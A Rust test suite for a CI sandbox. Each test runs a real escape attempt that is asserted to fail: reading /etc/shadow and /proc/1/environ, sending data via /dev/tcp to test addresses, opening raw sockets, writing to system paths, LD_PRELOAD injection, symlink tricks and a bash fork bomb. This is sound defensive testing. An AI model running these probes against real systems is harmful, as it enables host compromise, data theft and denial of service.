//! Attacks on the sandbox, each run for real. On a machine where the sandbox cannot start they fail with its sentence.

use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use tempfile::TempDir;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use super::log::{LINE, Masks};
use super::plan::{Fate, PullRequest, Recipe, WorkflowFile, plan};
use super::run::{JobOutcome, Progress, Report, execute_within};
use super::sandbox::{Call, Sandbox, WORKSPACE};
use super::{JobFolder, Options};
use crate::domain::check::CheckState;

const LONG: Duration = Duration::from_mins(1);

struct House {
    scratch: TempDir,
    sandbox: Sandbox,
}

struct Ran {
    outcome: JobOutcome,
    log: String,
    folder: JobFolder,
}

impl House {
    async fn new() -> Self {
        Self::with(Options::default()).await
    }

    async fn with(options: Options) -> Self {
        let scratch = tempfile::tempdir().unwrap();
        fs::set_permissions(scratch.path(), fs::Permissions::from_mode(0o711)).unwrap();
        match Sandbox::prove(options, scratch.path()).await {
            Ok(sandbox) => Self { scratch, sandbox },
            Err(why) => panic!("{why}"),
        }
    }

    /// Runs the steps, given as YAML, in a job of their own.
    async fn steps(&self, steps: &str) -> Ran {
        self.within(LONG, steps, |_| {}).await
    }

    async fn script(&self, script: &str) -> Ran {
        self.steps(&format!("- run: |\n    {}\n", script.replace('\n', "\n    "))).await
    }

    async fn within(&self, longest: Duration, steps: &str, prepare: impl FnOnce(&Path)) -> Ran {
        let folder = JobFolder::create(self.scratch.path(), "job").unwrap();
        prepare(&folder.workspace());
        let (to, mut from) = mpsc::channel(16);
        let reader = async move {
            let mut log = String::new();
            while let Some(progress) = from.recv().await {
                if let Progress::Line(line) = progress {
                    log += &line.text;
                    log.push('\n');
                }
            }
            log
        };
        let mut masks = Masks::default();
        masks.add("task-token-of-the-server");
        let job = (&self.sandbox, &recipe(steps), &folder);
        let execution = execute_within(longest, job, Report::new(to, masks), CancellationToken::new());
        let (outcome, log) = tokio::join!(execution, reader);
        Ran { outcome: outcome.unwrap(), log, folder }
    }
}

fn recipe(steps: &str) -> Recipe {
    let indented = steps.replace('\n', "\n      ");
    let text = format!(
        "on: pull_request\nenv: {{TOP: top}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      {indented}\n"
    );
    let pull = PullRequest {
        commit: "a".repeat(40).parse().unwrap(),
        line: "main".parse().unwrap(),
        changed: vec!["a".to_owned()],
        repository: "octo/octo".to_owned(),
    };
    let mut plan = plan(&[WorkflowFile { path: "ci.yml".to_owned(), text }], &pull);
    match plan.jobs.remove(0).fate {
        Fate::Run(recipe) => recipe,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_check_sees_nothing_of_the_host() {
    let house = House::new().await;
    fs::write(house.scratch.path().join("database"), "secret").unwrap();
    let outside = house.scratch.path().display();
    let ran = house
        .script(&format!(
            "id\nls -A /\ncat /etc/shadow || echo no shadow\nls /root || echo no root\nls {outside} || echo no server\nls /sys || echo no sys\nls /proc | grep -c '^[0-9]' \ncat /proc/1/environ | tr '\\0' '\\n' || echo closed"
        ))
        .await;
    for expected in ["uid=1000(ci) gid=1000(ci) groups=1000(ci)", "no shadow", "no root", "no server", "no sys"] {
        assert!(ran.log.contains(expected), "{expected}: {}", ran.log);
    }
    assert!(!ran.log.contains("CARGO"), "{}", ran.log);
    assert_eq!(ran.outcome.state, CheckState::Success, "{}", ran.log);
}

#[tokio::test]
async fn a_check_reaches_no_network_and_no_socket_of_the_host() {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let name = format!("embargo-escape-{}", std::process::id());
    let abstract_socket = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    udp.set_nonblocking(true).unwrap();
    tcp.set_nonblocking(true).unwrap();
    abstract_socket.set_nonblocking(true).unwrap();
    let house = House::new().await;
    let (tcp_port, udp_port) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let ran = house
        .script(&format!(
            r#"(echo leak >/dev/tcp/127.0.0.1/{tcp_port}) 2>&1 && echo REACHED tcp
(echo leak >/dev/udp/127.0.0.1/{udp_port}) 2>&1 || true
(echo leak >/dev/tcp/192.0.2.1/80) 2>&1 && echo REACHED far
(echo leak >/dev/udp/192.0.2.1/53) 2>&1 && echo REACHED dns
getent hosts example.org && echo REACHED name
python3 - <<'END'
import socket
def attempt(name, act):
    try:
        act(); print("REACHED", name)
    except OSError as error:
        print(name, error)
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0{name}"))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
END
echo done"#
        ))
        .await;
    assert!(ran.log.contains("done") && !ran.log.contains("REACHED"), "{}", ran.log);
    assert!(ran.log.contains("vsock [Errno 1]"), "the filter refuses it: {}", ran.log);
    assert!(tcp.accept().is_err() && abstract_socket.accept().is_err());
    assert!(udp.recv(&mut [0; 8]).is_err());
}

#[tokio::test]
async fn a_check_writes_only_into_its_own_folders() {
    let house = House::new().await;
    let ran = house
        .script("for place in /usr/x /etc/x /x /dev/x /proc/sys/kernel/hostname /home/x; do\n  (echo x >$place) 2>/dev/null && echo WROTE $place\ndone\nfor place in /w/x /tmp/x /home/ci/x /dev/null /dev/shm/x; do\n  (echo x >$place) || echo CANNOT $place\ndone\nmount -t tmpfs x /tmp 2>/dev/null && echo WROTE mount\nunshare -Ur true 2>/dev/null && echo WROTE namespace\necho done")
        .await;
    assert!(ran.log.contains("done") && !ran.log.contains("WROTE") && !ran.log.contains("CANNOT"), "{}", ran.log);
    assert!(ran.folder.workspace().join("x").is_file());
    assert!(!Path::new("/usr/x").exists());
}

#[tokio::test]
async fn a_link_out_of_the_workspace_leads_nowhere() {
    let house = House::new().await;
    let outside = house.scratch.path().join("of-the-server");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("env"), "LEAKED=yes").unwrap();
    let target = outside.clone();
    let steps = format!(
        "- run: cat link/env\n  continue-on-error: true\n- run: pwd\n  working-directory: link\n  continue-on-error: true\n- run: |\n    rm $GITHUB_ENV $GITHUB_PATH\n    ln -s {0}/env $GITHUB_ENV\n    mkfifo $GITHUB_PATH\n- run: echo \"leaked=$LEAKED\"",
        outside.display()
    );
    let ran = house
        .within(LONG, &steps, |workspace| std::os::unix::fs::symlink(target, workspace.join("link")).unwrap())
        .await;
    let states: Vec<_> = ran.outcome.steps.iter().map(|step| step.state).collect();
    assert_eq!(
        states,
        [CheckState::Failure, CheckState::Failure, CheckState::Success, CheckState::Success],
        "{}",
        ran.log
    );
    assert!(ran.log.contains("leaked=\n"), "{}", ran.log);
}

#[tokio::test]
async fn a_check_inherits_no_variable_of_the_server() {
    let house = House::new().await;
    let ran = house.script("env").await;
    for line in ran.log.lines() {
        let name = line.split('=').next().unwrap();
        let known = ["CI", "HOME", "LANG", "TZ", "USER", "PATH", "PWD", "SHLVL", "_", "TOP"].contains(&name);
        assert!(known || name.starts_with("GITHUB_") || name.starts_with("RUNNER_"), "{line}");
    }
    for expected in [
        "CI=true",
        "HOME=/home/ci",
        "GITHUB_WORKSPACE=/w",
        "GITHUB_EVENT_NAME=pull_request",
        "GITHUB_BASE_REF=main",
        "TOP=top",
    ] {
        assert!(ran.log.lines().any(|line| line == expected), "{expected}: {}", ran.log);
    }
}

#[tokio::test]
async fn a_variable_of_a_check_does_not_reach_the_helpers_outside() {
    let house = House::new().await;
    let steps = "- run: echo \"inside $LD_PRELOAD\"\n  env: {LD_PRELOAD: /nowhere/evil.so, BASH_ENV: /nowhere/evil.sh, 'A': \"two\\nlines\"}";
    let ran = house.steps(steps).await;
    assert!(ran.log.contains("inside /nowhere/evil.so"), "{}", ran.log);
    let folder = JobFolder::create(house.scratch.path(), "probe").unwrap();
    let step = folder.step(0, "true", house.sandbox.uid()).unwrap();
    let env = [("TOKEN".to_owned(), "embargoed".to_owned())];
    let command = house.sandbox.command(Call {
        folder: &folder,
        step: &step,
        env: &env,
        directory: WORKSPACE,
        command: &["true"],
    });
    let command = format!("{:?}", command.unwrap());
    assert!(!command.contains("embargoed"), "every user of the host could read it: {command}");
}

#[tokio::test]
async fn a_fork_bomb_ends_at_its_limit() {
    let house = House::with(Options { processes: 200, ..Options::default() }).await;
    let ran = house
        .within(
            Duration::from_secs(15),
            "- run: |\n    bomb() { bomb | bomb & }\n    bomb 2>&1 | head -n 5\n    wait",
            |_| {},
        )
        .await;
    assert!(
        ran.log.contains("Resource temporarily unavailable") || ran.outcome.state != CheckState::Success,
        "{}",
        ran.log
    );
    let ran = house.script("echo still here").await;
    assert!(ran.log.contains("still here"), "the next job has room again: {}", ran.log);
}

#[tokio::test]
async fn a_process_that_wants_too_much_is_refused() {
    let house = House::with(Options { memory_mib: 256, file_mib: 1, ..Options::default() }).await;
    let ran = house
        .script("python3 -c 'bytearray(1 << 30)' 2>&1 | tail -n 1\nhead -c 2000000 /dev/zero >big || echo too big\nulimit -c")
        .await;
    assert!(ran.log.contains("MemoryError") && ran.log.contains("too big"), "{}", ran.log);
    assert_eq!(fs::metadata(ran.folder.workspace().join("big")).unwrap().len(), 1024 * 1024);
}

#[tokio::test]
async fn the_end_of_the_time_kills_what_was_left_behind() {
    let house = House::new().await;
    let marker = format!("{}.125", 1000 + std::process::id());
    let steps = format!(
        "- run: |\n    setsid sleep {marker} &\n    nohup sleep {marker} >/dev/null 2>&1 &\n    trap '' TERM INT HUP\n    echo started\n    wait\n- run: echo never\n  if: always()"
    );
    let ran = house.within(Duration::from_secs(2), &steps, |_| {}).await;
    assert_eq!(ran.outcome.state, CheckState::TimedOut);
    assert_eq!(ran.outcome.steps[1].state, CheckState::Skipped);
    assert!(ran.log.contains("started") && ran.log.contains("time is up"), "{}", ran.log);
    assert_gone(&marker);
}

#[tokio::test]
async fn a_daemon_does_not_outlive_its_step() {
    let house = House::new().await;
    let marker = format!("{}.25", 1000 + std::process::id());
    let ran = house.script(&format!("setsid sleep {marker} >/dev/null 2>&1 </dev/null &\ndisown\necho left it")).await;
    assert_eq!(ran.outcome.state, CheckState::Success, "{}", ran.log);
    assert_gone(&marker);
}

#[expect(clippy::disallowed_methods, reason = "stands for the server, which has to die in this test")]
#[tokio::test]
async fn a_killed_server_takes_its_checks_along() {
    let house = House::new().await;
    let marker = format!("{}.375", 1000 + std::process::id());
    let folder = JobFolder::create(house.scratch.path(), "job").unwrap();
    folder.hand_to(house.sandbox.uid()).unwrap();
    let step = folder.step(0, &format!("echo up\nsleep {marker}"), house.sandbox.uid()).unwrap();
    let env = [("PATH".to_owned(), house.sandbox.path())];
    let call =
        Call { folder: &folder, step: &step, env: &env, directory: WORKSPACE, command: &["bash", "/github/script"] };
    let inner = house.sandbox.command(call).unwrap();
    // A shell stands for the server: it starts the sandbox as the server does, and is killed.
    let (reader, writer) = std::io::pipe().unwrap();
    let mut server = {
        let mut server = Command::new("/bin/sh");
        server.args(["-c", "\"$@\" & wait", "server"]).arg(inner.get_program()).args(inner.get_args());
        server.stdin(Stdio::null()).stdout(writer).spawn().unwrap()
    };
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(reader));
    assert_eq!(lines.next().unwrap().unwrap(), "up");
    server.kill().unwrap();
    server.wait().unwrap();
    assert!(lines.next().is_none(), "the output ends because all that held it is dead");
    assert_gone(&marker);
}

#[tokio::test]
async fn a_dropped_job_is_a_dead_job() {
    let house = House::new().await;
    let marker = format!("{}.5", 1000 + std::process::id());
    let folder = JobFolder::create(house.scratch.path(), "job").unwrap();
    folder.hand_to(house.sandbox.uid()).unwrap();
    let step = folder.step(0, &format!("echo up\nsleep {marker}"), house.sandbox.uid()).unwrap();
    let env = [("PATH".to_owned(), house.sandbox.path())];
    let call =
        Call { folder: &folder, step: &step, env: &env, directory: WORKSPACE, command: &["bash", "/github/script"] };
    let mut running = house.sandbox.start(call).await.unwrap();
    assert!(running.read(&mut [0; 16]).await.unwrap() > 0);
    assert!(Path::new(&format!("/proc/{}", running.id())).exists());
    drop(running);
    assert_gone(&marker);
}

#[tokio::test]
async fn a_cancelled_job_stops_at_once() {
    let house = House::new().await;
    let folder = JobFolder::create(house.scratch.path(), "job").unwrap();
    let (to, mut from) = mpsc::channel(1);
    let cancel = CancellationToken::new();
    let stop = cancel.clone();
    let reader = async move {
        while let Some(progress) = from.recv().await {
            if matches!(progress, Progress::Line(line) if line.text == "up") {
                stop.cancel();
            }
        }
    };
    let recipe = recipe("- run: |\n    echo up\n    sleep 1000\n- run: echo never");
    let job = (&house.sandbox, &recipe, &folder);
    let (outcome, ()) = tokio::join!(execute_within(LONG, job, Report::new(to, Masks::default()), cancel), reader);
    let outcome = outcome.unwrap();
    assert_eq!(outcome.state, CheckState::Cancelled);
    assert_eq!(outcome.steps[1].state, CheckState::Skipped);
}

#[tokio::test]
async fn steps_hand_on_what_they_should() {
    let house = House::new().await;
    let steps = r#"- uses: actions/checkout@v4
- run: |
    echo "A=one two" >>$GITHUB_ENV
    printf 'B<<E\nx\ny\nE\n' >>$GITHUB_ENV
    echo GITHUB_SHA=forged >>$GITHUB_ENV
    mkdir -p ~/bin && printf '#!/bin/sh\necho own tool\n' >~/bin/tool && chmod +x ~/bin/tool
    echo ~/bin >>$GITHUB_PATH
    echo kept >/tmp/kept
- run: |
    echo "A=$A B=$B S=$GITHUB_SHA"
    tool; cat /tmp/kept
    false | true
    echo expression ${{ env.A }} ${{ github.base_ref }} ${{ env.OWN }}
  env: {OWN: '${{ env.TOP }}-own'}
- run: import os; print("python", os.getcwd())
  shell: python
  working-directory: ${{ env.TOP }}
- run: false | true
  shell: bash
- run: echo not reached
- run: echo failure seen
  if: failure()
- run: echo always
  if: always()"#;
    let ran = house.within(LONG, steps, |workspace| fs::create_dir(workspace.join("top")).unwrap()).await;
    for expected in [
        "A=one two B=x\ny S=aaaa",
        "own tool\nkept\n",
        "expression one two main top-own",
        "python /w/top",
        "failure seen",
        "always",
        "exit code 1",
    ] {
        assert!(ran.log.contains(expected), "{expected}: {}", ran.log);
    }
    assert!(!ran.log.contains("not reached"));
    assert_eq!(ran.outcome.state, CheckState::Failure);
    let states: Vec<_> = ran.outcome.steps.iter().map(|step| step.state.as_str()).collect();
    assert_eq!(states, ["success", "success", "success", "success", "failure", "skipped", "success", "success"]);
    let steps = &ran.outcome.steps;
    assert!(steps.windows(2).all(|pair| pair[0].log_from + pair[0].log_lines == pair[1].log_from), "{steps:?}");
}

#[tokio::test]
async fn a_job_in_which_nothing_ran_is_not_green() {
    let house = House::new().await;
    assert_eq!(house.steps("- uses: actions/checkout@v4").await.outcome.state, CheckState::Skipped);
    assert_eq!(house.steps("- run: 'true'\n  if: false").await.outcome.state, CheckState::Skipped);
}

#[tokio::test]
async fn secrets_and_endless_lines_do_not_leave_as_they_are() {
    let house = House::new().await;
    let ran = house
        .script("echo ::add-mask::found-at-run-time\nprintf 'found-at-'; sleep 0.2; echo run-time\necho task-token-of-the-server >&2\nhead -c 200000 /dev/zero | tr '\\0' x\necho\necho end")
        .await;
    assert!(ran.log.starts_with("::add-mask::***\n***\n***\n"), "{:.200}", ran.log);
    assert_eq!(ran.log.lines().map(str::len).max(), Some(LINE));
    assert!(ran.log.ends_with("x\nend\n"));
}

#[tokio::test]
async fn a_toolchain_is_seen_read_only_and_on_the_path() {
    let tools = tempfile::tempdir().unwrap();
    fs::set_permissions(tools.path(), fs::Permissions::from_mode(0o755)).unwrap();
    fs::create_dir(tools.path().join("bin")).unwrap();
    fs::write(tools.path().join("bin/own-compiler"), "#!/bin/sh\necho compiled\n").unwrap();
    fs::set_permissions(tools.path().join("bin/own-compiler"), fs::Permissions::from_mode(0o755)).unwrap();
    // Not under /tmp: the job's own temporary files lie over that inside.
    let place = Path::new("/var/tmp").join(format!("embargo-toolchain-{}", std::process::id()));
    fs::rename(tools.path(), &place).unwrap();
    let house = House::with(Options { toolchains: vec![place.clone()], ..Options::default() }).await;
    let ran = house.script(&format!("own-compiler\ntouch {}/x || echo read-only", place.display())).await;
    fs::remove_dir_all(&place).unwrap();
    assert!(ran.log.contains("compiled\n") && ran.log.contains("read-only"), "{}", ran.log);
    assert!(matches!(
        Sandbox::prove(Options { toolchains: vec!["/".into()], ..Options::default() }, house.scratch.path()).await,
        Err(super::WhyNot::Toolchain)
    ));
}

#[tokio::test]
async fn without_a_sandbox_there_is_a_sentence_and_nothing_runs() {
    let scratch = tempfile::tempdir().unwrap();
    let options = Options { bwrap: "/nonexistent/bwrap".into(), ..Options::default() };
    assert!(Sandbox::prove(options, scratch.path()).await.unwrap_err().to_string().contains("apt install bubblewrap"));
    let options = Options { bwrap: "/bin/true".into(), ..Options::default() };
    assert!(Sandbox::prove(options, scratch.path()).await.unwrap_err().to_string().contains("does not start"));
    let open = scratch.path().join("pretends");
    fs::write(&open, "#!/bin/sh\nwhile [ \"$1\" != -- ]; do shift; done\nshift\necho uid 1000\necho end\n").unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(scratch.path(), fs::Permissions::from_mode(0o711)).unwrap();
    let options = Options { bwrap: open, ..Options::default() };
    assert!(Sandbox::prove(options, scratch.path()).await.unwrap_err().to_string().contains("does not hold"));
    assert!(matches!(
        Sandbox::prove(Options { enabled: false, ..Options::default() }, scratch.path()).await,
        Err(super::WhyNot::Off)
    ));
}

/// Waits until no process on the host carries the marker in its arguments; the kernel may still be taking them down.
fn assert_gone(marker: &str) {
    let alive = || {
        fs::read_dir("/proc").unwrap().flatten().any(|entry| {
            fs::read(entry.path().join("cmdline")).is_ok_and(|words| {
                words
                    .split(|byte| *byte == 0)
                    .collect::<Vec<_>>()
                    .windows(2)
                    .any(|pair| pair == [b"sleep".as_slice(), marker.as_bytes()])
            })
        })
    };
    let start = std::time::Instant::now();
    while alive() {
        assert!(start.elapsed() < Duration::from_secs(10), "a process outlived its sandbox");
        std::thread::yield_now();
    }
}
